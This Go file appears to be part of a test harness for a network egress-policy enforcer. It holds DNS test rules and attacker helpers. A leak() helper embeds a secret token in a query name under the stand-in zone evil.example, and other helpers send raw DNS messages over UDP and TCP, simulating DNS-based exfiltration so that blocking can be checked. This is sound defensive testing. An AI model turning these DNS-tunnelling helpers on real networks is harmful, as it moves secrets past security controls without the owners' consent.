//go:build linux

package gauntlet

import (
	"errors"
	"io"
	"net"
	"slices"

	"github.com/miekg/dns"
)

func dnsRows() []Row {
	return slices.Concat(questionRows(), wildcardRows(), messageRows(), ownNameRows(), chosenServerRows(), chosenStreamRows(), encryptedRows(), multicastRows())
}

// Rules that rows about DNS share.
var (
	observed = []string{"--mode", "audit"}
	evilDNS  = []string{"--allow", "shop.example", "--allow", Evil.String() + ":53"}
	notDNS   = "network-close dest_ip=203.0.113.66 dest_port=53 close=policy reason=malformed"
	evilZone = []string{"--allow", "*.evil.example"}
)

// leak is a name with the token in it, in a zone that its owner reads along in.
func (a *Attacker) leak() string { return a.Token + ".evil.example" }

// query is a question for the name.
func query(name string, qtype uint16) *dns.Msg {
	return new(dns.Msg).SetQuestion(dns.Fqdn(name), qtype)
}

// send says a message as it is to a server, "" for the one of resolv.conf, and waits for what comes back.
func (a *Attacker) send(network, server string, raw []byte) error {
	if server == "" {
		conf, err := dns.ClientConfigFromFile("/etc/resolv.conf")
		if err != nil || len(conf.Servers) == 0 {
			return errors.Join(err, errors.New("no resolver"))
		}
		server = net.JoinHostPort(conf.Servers[0], "53")
	}
	if network == "udp" {
		return a.sayDatagrams(server, moment, raw)
	}
	c, err := dial(network, server)
	if err != nil {
		return err
	}
	defer c.Close()
	return say(c, raw)
}

// sendMessage packs a message and sends it in one datagram.
func (a *Attacker) sendMessage(server string, m *dns.Msg) error {
	raw, err := m.Pack()
	if err != nil {
		return err
	}
	return a.send("udp", server, raw)
}

// framed are messages for TCP, one behind the other.
func framed(messages ...*dns.Msg) []byte {
	var b []byte
	for _, m := range messages {
		raw, err := m.Pack()
		if err != nil {
			return nil
		}
		b = append(b, vec16(raw...)...)
	}
	return b
}

// readFrames reads n answers.
func readFrames(c net.Conn, n int) error {
	for range n {
		head := make([]byte, 2)
		if _, err := io.ReadFull(c, head); err != nil {
			return err
		}
		if _, err := io.ReadFull(c, make([]byte, int(head[0])<<8|int(head[1]))); err != nil {
			return err
		}
	}
	return nil
}
